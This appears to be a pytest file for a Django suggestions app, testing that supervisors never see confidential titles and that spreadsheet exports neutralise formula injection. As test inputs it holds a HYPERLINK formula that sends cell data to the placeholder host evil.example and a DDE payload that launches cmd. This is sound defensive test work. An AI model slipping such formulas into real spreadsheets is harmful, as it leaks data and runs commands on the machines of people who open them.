"""Issue 12, findings 4 and 5.

4: every list of suggestions a dashboard shows or exports passes through its reader's
   visibility: a supervisor's drill-downs, unit sheet and report list only what he may open
   (never the title of a confidential suggestion); staff keep every row.
5: a text cell starting with `= + - @` (or tab/CR) is written as text in every .xlsx export,
   and reads back exactly as typed.
"""

from __future__ import annotations

import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import Workbook, load_workbook

from common.xlsx import FORMULA_TRIGGERS, append_row
from suggestions import services
from supervision import services as supervision
from supervision.models import InspectionKind

pytestmark = pytest.mark.django_db
TZ = ZoneInfo("Asia/Shanghai")
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
SECRET_TITLE = "关于某涉密工程的建议"


@pytest.fixture
def frozen():
    with time_machine.travel(dt.datetime(2026, 5, 11, 10, 0, tzinfo=TZ), tick=False):
        yield


def _assigned(alice, sam, water, session, *, title, confidential=False):
    s = services.suggestion_create(author=alice, title=title, body="正文。", session=session, confidential=confidential)
    services.suggestion_submit(suggestion=s, actor=alice)
    services.suggestion_accept(suggestion=s, actor=sam)
    services.suggestion_assign(suggestion=s, actor=sam, lead_units=[water])
    return s


@pytest.fixture
def data(frozen, alice, sam, victor, water, session_2026):
    secret = _assigned(alice, sam, water, session_2026, title=SECRET_TITLE, confidential=True)
    watched = _assigned(alice, sam, water, session_2026, title=EVIL)
    supervision.supervisor_attach(suggestion=watched, user=victor, actor=sam)
    return {"secret": secret, "watched": watched}


def cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def texts(response) -> set:
    return {str(c.value) for c in cells(response)}


def page_urls(water) -> list[str]:
    return [
        "/dashboards/drill/?metric=registered&year=2026",
        f"/dashboards/drill/?metric=assigned&dim=unit&key={water.pk}&year=2026",
        f"/dashboards/units/{water.pk}/?year=2026",
        "/dashboards/report/?year=2026",
    ]


def test_supervisor_lists_only_what_he_may_open(data, victor, water, client, api):
    client.force_login(victor)
    for url in page_urls(water):
        html = client.get(url).content.decode()
        assert SECRET_TITLE not in html, url
        xlsx = client.get(url + "&format=xlsx")
        assert xlsx.status_code == 200, url
        assert SECRET_TITLE not in texts(xlsx), url
    listed = client.get("/dashboards/drill/?metric=registered&year=2026&format=xlsx")
    assert EVIL in texts(listed)
    rows = api(victor).get("/api/v1/stats/drill/?metric=registered&year=2026").json()["results"]
    assert [r["suggestion"] for r in rows] == [data["watched"].pk]


def test_staff_lists_every_row(data, sam, water, client, api):
    client.force_login(sam)
    assert SECRET_TITLE in texts(client.get("/dashboards/drill/?metric=registered&year=2026&format=xlsx"))
    assert SECRET_TITLE in client.get(f"/dashboards/units/{water.pk}/?year=2026").content.decode()
    rows = api(sam).get("/api/v1/stats/drill/?metric=registered&year=2026").json()["results"]
    assert {r["suggestion"] for r in rows} == {data["secret"].pk, data["watched"].pk}


def test_formula_like_titles_are_text_in_dashboard_exports(data, sam, water, client):
    client.force_login(sam)
    for url in page_urls(water)[:3]:
        written = cells(client.get(url + "&format=xlsx"))
        assert not [c for c in written if c.data_type == "f"], url
        evil = [c for c in written if c.value == EVIL]
        assert evil and all(c.data_type == "s" for c in evil), url


def test_formula_like_findings_are_text_in_the_inspections_export(data, sam, client, api):
    findings = "@SUM(1+1)*cmd|' /C calc'!A0"
    supervision.inspection_create(
        actor=sam, kind=InspectionKind.SITE_VISIT, held_on=dt.date(2026, 5, 8), suggestion=data["watched"],
        findings=findings,
    )  # fmt: skip
    for response in (api(sam).get("/api/v1/inspections/export/"), _page_export(client, sam)):
        written = cells(response)
        assert not [c for c in written if c.data_type == "f"]
        assert findings in {c.value for c in written}
        assert any(str(c.value).endswith(EVIL) for c in written)


def _page_export(client, user):
    client.force_login(user)
    return client.get("/supervision/inspections/export.xlsx")


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"])
def test_helper_writes_formula_like_text_as_text_and_reads_back_unchanged(text):
    wb = Workbook()
    ws = wb.active
    append_row(ws, [text, "普通文字", 42, -5, dt.date(2026, 1, 2)])
    buffer = io.BytesIO()
    wb.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    # XML turns a carriage return into a line feed; everything else reads back exactly.
    assert row[0].value == text.replace("\r", "\n")
    assert row[0].data_type == "s"
    assert row[0].quotePrefix
    assert text.startswith(FORMULA_TRIGGERS)
    assert (row[1].value, row[2].value, row[3].value) == ("普通文字", 42, -5)
    assert not row[1].quotePrefix
